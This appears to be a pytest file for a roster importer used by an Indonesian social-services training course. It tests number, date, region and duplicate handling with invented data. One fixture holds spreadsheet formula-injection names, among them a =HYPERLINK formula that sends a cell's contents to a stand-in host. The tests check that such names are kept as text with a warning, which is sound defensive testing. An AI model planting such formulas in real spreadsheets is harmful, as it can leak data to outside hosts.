"""A roster as 13 offices send it: what is read, what is refused, and where."""

import io
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from courses.roster.columns import Column, find_header
from courses.roster.reading import RosterReading, read_roster
from courses.roster.rows import Record, read_rows
from courses.trainings.quota import Element, quota_report
from lms.exports import Sheet, csv_bytes, xlsx_bytes
from lms.people.regions import REGIONS
from lms.tables import read_tables
from lms.words import InputError

FILES = Path(__file__).parent / "files"
TODAY = date(2024, 1, 31)
HEADER = "no,nama,nik,nip,unsur,kab_kota,hp,email"


def read(content: bytes | str) -> RosterReading:
    data = content.encode() if isinstance(content, str) else content
    return read_roster(read_tables(data), today=TODAY)


def read_file(name: str) -> RosterReading:
    return read((FILES / name).read_bytes())


def rows(*lines: str, header: str = HEADER) -> RosterReading:
    return read("\n".join([header, *lines]))


def records(name: str) -> list[Record]:
    """The rows of a file that lacks required columns, each cell in stored form.

    Such a file makes no participants, so what it shows is tested one step before.
    """
    (table,) = read_tables((FILES / name).read_bytes())
    header = find_header(table.rows)
    assert header is not None
    return [row for row in read_rows(table, header, today=TODAY) if isinstance(row, Record)]


def test_baseline_of_34_fills_every_seat() -> None:
    reading = read_file("roster_34_baseline.csv")
    people = reading.participants
    assert (reading.errors, reading.warnings, reading.duplicates) == ((), (), ())
    assert len(people) == 34
    assert len({person.nik for person in people}) == 34
    assert [person.nip is None for person in people].count(True) == 13
    report = quota_report(
        ((person.element, person.region) for person in people),
        {
            "pendamping_sosial": {"per_region": 1},
            "petugas_dinsos_kabkota": {"per_region": 1},
            "dinsos_provinsi": {"total": 8},
        },
        [region.code for region in REGIONS],
    )
    assert (report.wanted, report.found, report.warnings) == (34, 34, ())


def test_a_leading_zero_survives() -> None:
    read_records = records("roster_leading_zero.csv")
    assert [record.values[Column.PHONE] for record in read_records] == [
        "081250001009",
        "081250001012",
    ]
    assert [record.values[Column.NAME] for record in read_records] == ["Sugianto", "Norhayati"]


def test_numbers_that_a_spreadsheet_rounded_are_refused_with_row_and_column() -> None:
    reading = read_file("roster_nip_numeric.xlsx")
    assert [(fault.line, fault.column) for fault in reading.errors] == [
        (3, Column.NIP),
        (4, Column.NIK),
    ]
    assert [person.line for person in reading.participants] == [2]
    stored = {person.nik for person in reading.participants}
    assert stored == {"6371010101909001"}


numbers = st.tuples(
    st.from_regex(r"[0-9]{16}", fullmatch=True), st.from_regex(r"[0-9]{18}", fullmatch=True)
)


@settings(max_examples=20, deadline=None)
@given(st.lists(numbers, min_size=25, max_size=25, unique_by=(lambda n: n[0], lambda n: n[1])))
def test_a_thousand_identity_numbers_survive_a_roster(pairs: list[tuple[str, str]]) -> None:
    table = [
        [nik, nip, f"Nama {'x' * line}", "Dinsos Provinsi"]
        for line, (nik, nip) in enumerate(pairs, start=1)
    ]
    header = ["NIK", "NIP", "Nama", "Unsur"]
    for content in (xlsx_bytes(Sheet("Peserta", header, table)), csv_bytes(header, table)):
        reading = read(content)
        assert reading.errors == ()
        assert [(person.nik, person.nip) for person in reading.participants] == pairs


@pytest.mark.parametrize("name", ["roster_bom_comma.csv", "roster_semicolon.csv"])
def test_bom_and_semicolons_need_no_choice(name: str) -> None:
    reading = read_file(name)
    assert len(reading.participants) == 3
    assert reading.unknown_columns == ()
    assert [person.number for person in reading.participants] == ["1", "2", "3"]
    assert "\ufeff" not in repr(reading)


@pytest.mark.parametrize(
    ("name", "first_number", "stored"),
    [("roster_dup_case.csv", "1", "Ahmad Fauzan"), ("roster_dup_space.csv", "2", "Siti Rahmah")],
)
def test_a_person_given_twice_is_reported_once(name: str, first_number: str, stored: str) -> None:
    reading = read_file(name)
    assert len(reading.participants) == 3
    (duplicate,) = reading.duplicates
    assert (duplicate.line, duplicate.number) == (5, "4")
    assert (duplicate.first_number, duplicate.column) == (first_number, Column.NIK)
    assert stored in {person.name for person in reading.participants}


def test_a_nik_of_15_digits_names_its_row_and_column() -> None:
    reading = read_file("roster_row20_bad_nik.csv")
    (fault,) = reading.errors
    assert (fault.line, fault.number, fault.column) == (21, "20", Column.NIK)
    assert str(fault.reason) == "NIK harus 16 angka, tertulis 15 angka"
    assert len(reading.participants) == 33


def test_title_rows_totals_and_signatures_are_no_participants() -> None:
    reading = read_file("roster_title_rows.xlsx")
    assert len(reading.participants) == 34
    assert reading.errors == ()
    assert [row.text for row in reading.ignored] == ["JUMLAH 34", "Mengetahui,"]


def test_names_are_kept_as_written() -> None:
    reading = read_file("roster_titles_apostrophes.csv")
    assert [person.name for person in reading.participants] == [
        "Rahmad Hidayat, S.Sos., M.AP",
        "Ma'rufah, S.Pd.I",
        "Dr. H. Muhammad Ilmi, M.Si",
        "Noor’aini",
    ]


def test_names_like_formulas_are_accepted_as_text_with_a_warning() -> None:
    reading = read_file("roster_formula_names.csv")
    names = [person.name for person in reading.participants]
    assert names == [
        '=HYPERLINK("http://contoh.example/?x="&C2,"klik")',
        "@SUM(1+1)*cmd",
        "-2+3 Ilmi",
    ]
    assert [fault.column for fault in reading.warnings] == [Column.NAME] * 3


def test_names_like_formulas_survive_export_and_import() -> None:
    people = read_file("roster_formula_names.csv").participants
    header = ["nama", "unsur", "kab_kota"]
    table = [(person.name, person.element, person.region) for person in people]
    for content in (csv_bytes(header, table), xlsx_bytes(Sheet("Peserta", header, table))):
        again = read(content).participants
        assert [person.name for person in again] == [person.name for person in people]


def test_names_with_commas_survive_export_and_import() -> None:
    people = read_file("roster_titles_apostrophes.csv").participants
    table = [(person.name, person.element, person.region) for person in people]
    again = read(csv_bytes(["nama", "unsur", "kab_kota"], table)).participants
    assert [person.name for person in again] == [person.name for person in people]


def test_days_come_before_months_and_an_impossible_day_is_refused() -> None:
    first, second, third = records("roster_dates_dayfirst.csv")
    assert first.values[Column.BIRTH_DATE] == date(1987, 4, 3)
    assert second.values[Column.BIRTH_DATE] == date(1990, 12, 31)
    assert Column.BIRTH_DATE not in third.values
    (fault,) = third.errors
    assert (fault.line, fault.column, fault.value) == (4, Column.BIRTH_DATE, "31/02/1987")


def test_a_date_is_read_from_a_date_cell_a_number_and_words() -> None:
    days = [record.values[Column.BIRTH_DATE] for record in records("roster_date_serial.xlsx")]
    assert days == [date(1987, 3, 15)] * 3


@pytest.mark.parametrize(
    "text",
    [
        "15-03-1987",
        "15/3/1987",
        "15.03.1987",
        "15 03 1987",
        "1987-03-15",
        "1987-03-15 00:00:00",
        "1987-03-15T00:00:00",
        "15 Maret 1987",
        "15 MARET 1987",
        "15-Mar-1987",
        "15 March 1987",
    ],
)
def test_every_usual_way_to_write_a_date_is_the_same_day(text: str) -> None:
    reading = rows(f"A,Pendamping,Balangan,{text}", header="nama,unsur,kab,tgl lahir")
    assert reading.participants[0].birth_date == date(1987, 3, 15)


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("15/03/87", "empat angka"),
        ("31/02/1987", "tidak ada dalam kalender"),
        ("03/31/1987", "tidak ada dalam kalender"),
        ("31851", "hari-bulan-tahun"),
        ("kemarin", "hari-bulan-tahun"),
        ("15/03/2019", "tidak mungkin"),
        ("15/03/1087", "tidak mungkin"),
    ],
)
def test_a_doubtful_date_is_refused(text: str, reason: str) -> None:
    reading = rows(f"A,Pendamping,Balangan,{text}", header="nama,unsur,kab,tgl lahir")
    (fault,) = reading.errors
    assert reason in str(fault.reason)


@pytest.mark.parametrize(
    ("text", "element"),
    [
        ("Pendamping Sosial", Element.ASSISTANT),
        ("pendamping_sosial", Element.ASSISTANT),
        ("PENDAMPING SOSIAL KAB/KOTA", Element.ASSISTANT),
        ("Petugas Dinas Sosial", Element.DISTRICT_OFFICER),
        ("petugas_dinsos_kabkota", Element.DISTRICT_OFFICER),
        ("Dinas Sosial Kab/Kota", Element.DISTRICT_OFFICER),
        ("Dinsos Provinsi", Element.PROVINCIAL_OFFICER),
        ("Dinas Sosial Provinsi Kalimantan Selatan", Element.PROVINCIAL_OFFICER),
    ],
)
def test_every_usual_name_of_an_element_is_understood(text: str, element: Element) -> None:
    region = "" if element.is_provincial else "Balangan"
    reading = rows(f"A,{text},{region}", header="nama,unsur,kab_kota")
    assert [person.element for person in reading.participants] == [element]


def test_the_columns_of_the_design_are_read_in_any_order() -> None:
    header = (
        "email;no_hp;kode_wilayah;instansi;unsur_peserta;jabatan;golongan;pangkat;"
        "status_kepegawaian;tanggal_lahir;tempat_lahir;jenis_kelamin;nik;nip;nama_lengkap;no"
    )
    line = (
        "A@contoh.example;+62 812-0000-0001;6311;Dinsos PMD;petugas_dinsos_kabkota;Analis;IIIc;"
        "Penata;pns;15 Maret 1987;Paringin;Perempuan;6371015503870001;19870315 201001 2 001;"
        "Hj. Siti Contoh, S.Sos.;7"
    )
    (person,) = rows(line, header=header).participants
    assert person.number == "7"
    assert person.name == "Hj. Siti Contoh, S.Sos."
    assert (person.element, person.region) == (Element.DISTRICT_OFFICER, "63.11")
    assert (person.nik, person.nip) == ("6371015503870001", "198703152010012001")
    assert (person.phone, person.email) == ("081200000001", "a@contoh.example")
    assert (person.gender, person.birth_place) == ("P", "Paringin")
    assert (person.employment, person.rank, person.grade) == ("PNS", "Penata", "III/c")
    assert (person.position, person.institution) == ("Analis", "Dinsos PMD")


def test_two_facts_in_one_column_are_taken_apart() -> None:
    (person,) = rows(
        'A,Provinsi,"Banjarmasin, 15 Maret 1987","Penata Tk. I, III/d"',
        header="nama,unsur,Tempat/Tgl Lahir,Pangkat/Gol",
    ).participants
    assert (person.birth_place, person.birth_date) == ("Banjarmasin", date(1987, 3, 15))
    assert (person.rank, person.grade) == ("Penata Tk. I", "III/d")


@pytest.mark.parametrize(
    ("line", "column", "reason"),
    [
        ("1,,6371010101909001,,Pendamping,Balangan,,", Column.NAME, "Wajib"),
        ("1,123,6371010101909001,,Pendamping,Balangan,,", Column.NAME, "huruf"),
        ("1,A,,,,Balangan,,", Column.ELEMENT, "Wajib"),
        ("1,A,,,Tamu,Balangan,,", Column.ELEMENT, "Tulis Pendamping"),
        ("1,A,,,Pendamping,,,", Column.REGION, "Wajib"),
        ("1,A,,,Pendamping,Provinsi,,", Column.REGION, "tidak ada di Kalimantan"),
        ("1,A,,,Pendamping,Kalimantan Selatan,,", Column.REGION, "memerlukan kabupaten"),
        ("1,A,,,Pendamping,63.1,,", Column.REGION, "empat angka"),
        ("1,A,,,Pendamping,Kab. Banjarmasin,,", Column.REGION, "Maksudnya Kota Banjarmasin?"),
        ("1,A,,,Pendamping,Balangan,0511-33,", Column.PHONE, "08"),
        ("1,A,,,Pendamping,Balangan,,a@b", Column.EMAIL, "email"),
        ("1,A,6.37E+15,,Pendamping,Balangan,,", Column.NIK, "bilangan"),
    ],
)
def test_a_fault_names_line_column_value_and_reason(line: str, column: Column, reason: str) -> None:
    (fault,) = rows(line).errors
    assert (fault.line, fault.number, fault.column) == (2, "1", column)
    assert reason in str(fault.reason)


def test_code_and_name_of_a_region_must_agree() -> None:
    header = "nama,unsur,kode_wilayah,kab_kota"
    (fault,) = rows("A,Pendamping,63.11,Tapin", header=header).errors
    assert fault.column is Column.REGION_CODE
    (person,) = rows("A,Pendamping,63.11,Balangan", header=header).participants
    assert person.region == "63.11"


def test_a_provincial_officer_sits_for_the_province_wherever_the_office_is() -> None:
    reading = rows("1,A,,,Dinsos Provinsi,Kota Banjarbaru,,")
    assert reading.participants[0].region == "63"
    assert [fault.column for fault in reading.warnings] == [Column.ELEMENT]


def test_missing_columns_are_said_once() -> None:
    reading = rows("A,0812", "B,0813", header="nama,hp")
    assert [(fault.line, fault.column) for fault in reading.errors] == [
        (1, Column.ELEMENT),
        (1, Column.REGION_CODE),
    ]
    assert reading.participants == ()


def test_a_roster_of_the_province_alone_needs_no_region() -> None:
    assert len(rows("A,Provinsi", "B,Provinsi", header="nama,unsur").participants) == 2


def test_a_file_without_a_header_is_refused() -> None:
    with pytest.raises(InputError, match="Baris judul kolom tidak ditemukan"):
        read("Ahmad Fauzan,0812\nSiti,0813\n")


def test_a_roster_on_two_sheets_is_refused_rather_than_half_read() -> None:
    sheet = Sheet("Pendamping", ["Nama", "Unsur"], [["A", "Provinsi"]])
    other = Sheet("Petugas", ["Nama", "Unsur"], [["B", "Provinsi"]])
    with pytest.raises(InputError, match="Pendamping, Petugas"):
        read(xlsx_bytes(sheet, other))


def test_a_sheet_of_instructions_does_not_disturb() -> None:
    notes = Sheet("Petunjuk", ["Cara mengisi"], [["Isi semua kolom"]])
    sheet = Sheet("Peserta", ["Nama", "Unsur"], [["A", "Provinsi"]])
    assert len(read(xlsx_bytes(notes, sheet)).participants) == 1


def test_unknown_columns_are_reported() -> None:
    reading = rows("A,Provinsi,XL,ya", header="Nama,Unsur,Ukuran Baju,Nama")
    assert reading.unknown_columns == ("Ukuran Baju", "Nama")


def test_headings_column_numbers_repeated_headers_and_signatures_are_ignored() -> None:
    reading = rows(
        "(1),(2),(3),(4),(5),(6),(7),(8)",
        "KABUPATEN BALANGAN,,,,,,,",
        "1,A,,,Pendamping,Balangan,,",
        HEADER,
        "2,B,,,Petugas,Balangan,,",
        "Jumlah,2,,,,,,",
        "3,C,,,Pendamping,Tapin,,",
        ",,,,,,'Banjarmasin, 30 Januari 2024',",
        ",Mengetahui,,,,,,",
        ",Kepala Dinas,,,,,,",
        ",Drs. H. Contoh,,198703152010011002,,,,",
    )
    assert [person.name for person in reading.participants] == ["A", "B", "C"]
    assert reading.errors == ()
    assert len(reading.ignored) == 8


def test_a_row_with_only_a_number_and_a_name_is_a_person_with_a_fault() -> None:
    reading = rows("1,Ahmad Fauzan,,,,,,")
    assert [fault.column for fault in reading.errors] == [Column.ELEMENT]


@pytest.mark.parametrize(
    ("first", "second", "column"),
    [
        ("6371010101909001,,081200000001", "6371010101909001,,081200000002", Column.NIK),
        (",198703152010011002,", ",198703152010011002,", Column.NIP),
        (",,081200000001", ",,0812-0000-0001", Column.PHONE),
    ],
)
def test_two_names_with_one_number_are_an_error_not_a_duplicate(
    first: str, second: str, column: Column
) -> None:
    lines = [f"Ahmad,Pendamping,Tapin,{first}", f"Budi,Pendamping,Tapin,{second}"]
    reading = rows(*lines, header="nama,unsur,kab,nik,nip,hp")
    assert [(fault.line, fault.column) for fault in reading.errors] == [(3, column)]
    assert "baris 2, Ahmad" in str(reading.errors[0].reason)
    assert reading.duplicates == ()


def test_the_same_name_and_seat_without_numbers_is_a_duplicate() -> None:
    reading = rows(
        "Hj. Siti,Pendamping,Tapin", "SITI,Pendamping,Kab. Tapin", header="nama,unsur,kab"
    )
    assert len(reading.participants) == 1
    assert reading.duplicates[0].column is Column.NAME


def test_namesakes_with_different_nik_are_two_people() -> None:
    reading = rows(
        "Siti,Pendamping,Tapin,6371010101909001",
        "Siti,Pendamping,Tapin,6371010101909002",
        header="nama,unsur,kab,nik",
    )
    assert len(reading.participants) == 2
    assert [fault.column for fault in reading.warnings] == [Column.NAME]


def test_numbers_that_contradict_the_birth_date_draw_a_warning() -> None:
    (fault,) = rows(
        "Siti,Provinsi,198703152010011002,16 Maret 1987", header="nama,unsur,nip,tgl lahir"
    ).warnings
    assert fault.column is Column.NIP


def test_phones_that_a_spreadsheet_made_numbers_get_their_zero_back() -> None:
    book = openpyxl.Workbook()
    book.active.append(["Nama", "Unsur", "No. HP"])
    book.active.append(["A", "Provinsi", 81250001009])
    output = io.BytesIO()
    book.save(output)
    assert read(output.getvalue()).participants[0].phone == "081250001009"


def test_the_sample_roster_is_complete_and_plainly_invented() -> None:
    sample = Path(__file__).parents[3] / "courses/content/bimtek-pendamping-sosial/roster.csv"
    reading = read(sample.read_bytes())
    people = reading.participants
    assert (reading.errors, reading.warnings, reading.duplicates) == ((), (), ())
    assert len(people) == 34
    assert {person.region for person in people} == {"63", *(region.code for region in REGIONS)}
    # No sub-district 00 and no month 00 exist, and 0812-0000 is no block of numbers in use.
    assert all(person.nik and person.nik.startswith("637100") for person in people)
    assert all(person.nip[12:14] == "00" for person in people if person.nip)
    assert all(person.phone and person.phone.startswith("08120000") for person in people)
